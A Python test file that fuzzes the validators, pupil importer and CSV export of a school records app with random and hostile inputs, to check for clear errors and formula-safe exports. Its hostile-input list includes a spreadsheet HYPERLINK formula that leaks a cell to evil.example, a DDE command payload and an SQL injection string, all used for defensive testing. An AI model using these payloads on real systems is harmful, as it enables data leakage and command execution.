"""Bad input everywhere: random and hostile text, bytes and files fed to the validators and the pupil
importer. Each must end in a clear message (a Problem naming field/line, or a ValueError with
text) or a valid result — never an unhandled exception, never a hang — and a rejected import
leaves the store exactly as it was. CSV exports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import itertools
import sqlite3
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from cwsw_desktop.rules.dates import parse_date
from cwsw_desktop.rules.upn import CHECK_LETTERS, check_letter, validate_upn
from cwsw_desktop.services.errors import Problem, ValidationError
from cwsw_desktop.services.export import FORMULA_STARTS, export_register_csv, neutralise
from cwsw_desktop.services.pupil_import import (
    MAX_BYTES,
    MAX_ROWS,
    ImportPlan,
    ImportResult,
    import_file,
    parse_file,
    plan_import,
)
from cwsw_desktop.services.pupils import EpisodeInput, PupilInput, create_pupil, validate_pupil

TODAY = date(2026, 11, 23)
SERIALS = itertools.count(1_000_000)
HEADER = "UPN,Legal Surname,Legal Forename,Date of Birth,Category,Category Start,Attendance %"
FEW = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
SOME = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

HOSTILE_TEXT = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "a\x00b",
        "\x00",
        "31/02/2015",
        "29/02/2015",
        "00/00/0000",
        "32/13/2020",
        "2015-02-30",
        "9999-99-99",
        "0000-01-01",
        "01/01/0000",
        "１２/０３/２０２０",
        "١٢/٠٣/٢٠٢٠",
        "\ufeffUPN",
        "\u202eevil",
        "'; DROP TABLE pupil; --",
        "NaN",
        "inf",
        "-0",
        "1e309",
        "",
        " ",
        "\n",
        '"',
        '"""',
        ",,,,",
        "é" * 500,
        "x" * 5000,
        "B801200005001",
        "b801 2000 05001",
        "A" * 13,
    ]
)
ANY_TEXT = st.one_of(st.text(max_size=60), HOSTILE_TEXT)


def _problem_ok(p: Problem) -> None:
    assert isinstance(p, Problem) and p.message.strip(), p
    assert str(p)


# --- validators ----------------------------------------------------------------------------------


@SOME
@given(ANY_TEXT)
def test_validate_upn_never_raises(text):
    result = validate_upn(text)
    assert result.valid == (result.message == "")
    if result.valid:
        assert len(result.upn) == 13 and result.upn[0] == check_letter(result.upn[1:])


@SOME
@given(
    st.text(alphabet="0123456789", min_size=11, max_size=11), st.sampled_from("0123456789" + CHECK_LETTERS)
)
def test_every_checked_upn_validates(digits, last):
    body = digits + last
    upn = check_letter(body) + body
    result = validate_upn(f"  {upn.lower()} ")
    assert result.valid and result.upn == upn and result.temporary == last.isalpha()


@SOME
@given(ANY_TEXT)
def test_parse_date_is_a_date_or_a_clear_value_error(text):
    try:
        parsed = parse_date(text)
    except ValueError as exc:
        assert str(exc).strip()
    else:
        assert isinstance(parsed, date)


@pytest.mark.parametrize("text", ["31/02/2015", "29/02/2015", "31/04/2020", "00/01/2020", "2015-02-30"])
def test_impossible_dates_say_so(text):
    with pytest.raises(ValueError, match="is not a date"):
        parse_date(text)


dates = st.one_of(st.none(), st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)))
floats = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True))


@SOME
@given(
    upn=ANY_TEXT,
    surname=ANY_TEXT,
    forename=ANY_TEXT,
    dob=dates,
    admission=dates,
    leaving=dates,
    override=st.one_of(st.none(), st.integers()),
    sen=ANY_TEXT,
    review=dates,
    attendance=floats,
    gender=ANY_TEXT,
    episodes=st.lists(
        st.builds(
            EpisodeInput,
            category=st.one_of(st.sampled_from(["CLA", "PLA", "CIN", "CP"]), ANY_TEXT),
            start_date=st.dates(),
            end_date=dates,
            pla_route=ANY_TEXT,
        ),
        max_size=4,
    ),
)
def test_validate_pupil_returns_problems_never_raises(
    upn, surname, forename, dob, admission, leaving, override, sen, review, attendance, gender, episodes
):
    data = PupilInput(
        upn=upn,
        legal_surname=surname,
        legal_forename=forename,
        date_of_birth=dob,
        admission_date=admission,
        leaving_date=leaving,
        year_group_override=override,
        sen_status=sen,
        ehcp_review_date=review,
        attendance_pct=attendance,
        gender=gender,
    )
    problems = validate_pupil(data, episodes, TODAY)
    for p in problems:
        _problem_ok(p)
    if dob is None or (attendance is not None and not 0 <= attendance <= 100):
        assert problems


# --- the importer --------------------------------------------------------------------------------


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _check_plan(plan: ImportPlan) -> None:
    assert isinstance(plan, ImportPlan)
    for p in plan.problems:
        _problem_ok(p)
    if plan.ok:
        assert plan.rows


@FEW
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".txt", ".xlsx", ".xls", ".pdf", ""]))
def test_random_bytes_end_in_a_problem_or_rows(tmp_path, data, suffix):
    _check_plan(parse_file(_write(tmp_path, "random" + suffix, data), TODAY))


row_cells = st.lists(ANY_TEXT, min_size=0, max_size=9)


@SOME
@given(
    rows=st.lists(row_cells, min_size=0, max_size=6),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
def test_hostile_csv_cells_end_in_problems_with_lines(tmp_path, rows, encoding, delimiter):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(HEADER.split(","))
    for row in rows:
        writer.writerow(row)
    data = buffer.getvalue().encode(encoding, errors="replace")
    plan = parse_file(_write(tmp_path, "hostile.csv", data), TODAY)
    _check_plan(plan)
    for p in plan.problems:
        if plan.rows:  # header fine: every problem is about a row, with its line
            assert p.line is not None and p.line >= 2 and p.field


def _counts(store) -> dict[str, int]:
    connection = sqlite3.connect(store.path)
    try:
        tables = [r[0] for r in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {t: connection.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
    finally:
        connection.close()


def _upn(n: int) -> str:
    body = f"80120000{n:04d}"
    return check_letter(body) + body


@FEW
@given(
    bad=st.lists(
        st.tuples(
            st.sampled_from(
                ["Legal Surname", "Date of Birth", "Category", "Category Start", "Attendance %", "UPN"]
            ),
            HOSTILE_TEXT,
        ),
        min_size=1,
        max_size=4,
    )
)
def test_a_rejected_import_leaves_the_store_untouched(store, tmp_path, bad):
    columns = HEADER.split(",")
    good = [_upn(1), "Okafor", "Ada", "02/03/2014", "CIN", "08/01/2024", "95"]
    broken = list(good)
    broken[0] = _upn(2)
    for column, value in bad:
        broken[columns.index(column)] = value
    broken[1] = broken[1] if broken[1].strip() else ""  # a blank surname is a problem too
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([columns, good, broken])
    path = _write(tmp_path, "mixed.csv", buffer.getvalue().encode("utf-8"))
    before = _counts(store)
    try:
        result = import_file(store.engine, path, TODAY)
    except ValidationError as exc:
        assert exc.problems and all(p.message for p in exc.problems)
        assert _counts(store) == before  # nothing at all was saved, not even the good row
    else:
        assert isinstance(result, ImportResult)


def test_formulas_and_nuls_are_problems_not_data(store, tmp_path):
    text = (
        HEADER
        + "\n"
        + f'{_upn(1)},=HYPERLINK("http://x"),Ada,02/03/2014,,,\n'
        + f"{_upn(2)},Okafor,Bo\x00b,31/02/2014,,,\n"
    )
    plan = parse_file(_write(tmp_path, "f.csv", text.encode()), TODAY)
    messages = [str(p) for p in plan.problems]
    assert any("line 3" in m and "NUL" in m for m in messages)
    assert any("line 3" in m and "31/02/2014 is not a date" in m for m in messages)


def _big_upn(n: int) -> str:
    body = f"{n:012d}"
    return check_letter(body) + body


@pytest.mark.parametrize("dob", ["31/02/2014", "02/03/2014"])
def test_a_big_file_ends_promptly_in_problems_or_a_plan(store, tmp_path, dob):
    """5,000 rows: every row bad (a problem list), or every row good (a plan to preview)."""
    lines = [HEADER] + [
        f"{_big_upn(i)},Surname-{i}-{'x' * 30},Forename,{dob},CIN,01/01/2020,95" for i in range(5_000)
    ]
    path = _write(tmp_path, "big.csv", ("\n".join(lines) + "\n").encode())
    before = _counts(store)
    parsed = parse_file(path, TODAY)
    if dob.startswith("31"):
        assert len(parsed.problems) == 5_000
        assert str(parsed.problems[0]).startswith("line 2, Date of Birth: 31/02/2014 is not a date")
        with pytest.raises(ValidationError):
            import_file(store.engine, path, TODAY)
    else:
        plan = plan_import(store.engine, parsed.rows, TODAY, parsed.source)
        assert plan.ok and len(plan.to_add) == 5_000
    assert _counts(store) == before


def test_more_rows_than_the_limit_are_refused_naming_it(store, tmp_path):
    lines = [HEADER] + [f"{_big_upn(i)},S,F,02/03/2014,CIN,01/01/2020,95" for i in range(MAX_ROWS + 1)]
    parsed = parse_file(_write(tmp_path, "roll.csv", ("\n".join(lines) + "\n").encode()), TODAY)
    (problem,) = parsed.problems
    assert f"more than {MAX_ROWS:,} data rows (the limit)" in str(problem) and not parsed.rows
    lines.pop()  # exactly at the limit is fine
    parsed = parse_file(_write(tmp_path, "roll.csv", ("\n".join(lines) + "\n").encode()), TODAY)
    assert not parsed.problems and len(parsed.rows) == MAX_ROWS


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.write((HEADER + "\n").encode())
        handle.truncate(MAX_BYTES + 1)
    (problem,) = parse_file(path, TODAY).problems
    assert "the limit is 10 MB" in str(problem)


def test_one_enormous_line_is_a_problem_not_a_hang(tmp_path):
    path = _write(tmp_path, "line.csv", (HEADER + "\n" + "x" * 5_000_000).encode())
    plan = parse_file(path, TODAY)
    assert not plan.ok and plan.problems[0].message


def test_utf16_and_excel_disguised_as_csv(tmp_path):
    utf16 = parse_file(_write(tmp_path, "u.csv", HEADER.encode("utf-16")), TODAY)
    assert "UTF-16" in utf16.problems[0].message
    zipped = parse_file(_write(tmp_path, "z.csv", b"PK\x03\x04" + b"\x00" * 100), TODAY)
    assert "Excel" in zipped.problems[0].message


def _workbook(path: Path, rows: list[list[object]]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


xlsx_cell = st.one_of(
    st.none(),
    ANY_TEXT,
    st.integers(),
    st.floats(allow_nan=False),
    st.booleans(),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
)


@FEW
@given(rows=st.lists(st.lists(xlsx_cell, max_size=8), max_size=5))
def test_hostile_xlsx_cells_end_in_problems_or_rows(tmp_path, rows):
    from openpyxl.utils.exceptions import IllegalCharacterError

    try:
        path = _workbook(tmp_path / "hostile.xlsx", [HEADER.split(","), *rows])
    except IllegalCharacterError:
        assume(False)  # openpyxl itself will not write control characters into a sheet
    _check_plan(parse_file(path, TODAY))


def _damaged_workbook(tmp_path: Path, how: str) -> Path:
    import zipfile

    if how == "garbage content types":
        path = tmp_path / "garbage.xlsx"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("[Content_Types].xml", "<<< not xml")
        return path
    good = _workbook(tmp_path / "good.xlsx", [HEADER.split(","), [_upn(1), "Okafor", "Ada", "02/03/2014"]])
    path = tmp_path / "cut.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]  # a sheet cut short (a download or a USB stick that failed)
            target.writestr(item, data)
    return path


@pytest.mark.parametrize("how", ["garbage content types", "sheet cut short"])
def test_a_damaged_workbook_is_a_problem(tmp_path, how):
    plan = parse_file(_damaged_workbook(tmp_path, how), TODAY)
    assert not plan.ok and "Excel" in plan.problems[0].message


# --- exports -------------------------------------------------------------------------------------


@SOME
@given(ANY_TEXT)
def test_neutralise_never_leaves_a_formula_start(cell):
    out = neutralise(cell)
    assert not out.startswith(FORMULA_STARTS)
    assert out == cell or out == "'" + cell


@FEW
@given(
    names=st.lists(
        st.tuples(
            st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20)),
            st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20)),
        ),
        min_size=1,
        max_size=3,
    )
)
def test_register_csv_cells_never_start_a_formula(store, tmp_path, names):
    created = 0
    for surname, forename in names:
        data = PupilInput(
            upn=_big_upn(next(SERIALS)),
            legal_surname=surname,
            legal_forename=forename,
            date_of_birth=date(2014, 3, 2),
        )
        try:
            create_pupil(store.engine, data, [], today=TODAY)
            created += 1
        except ValidationError:
            continue
    assume(created)
    out = tmp_path / "register.csv"
    export_register_csv(store.engine, out, TODAY)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), cell
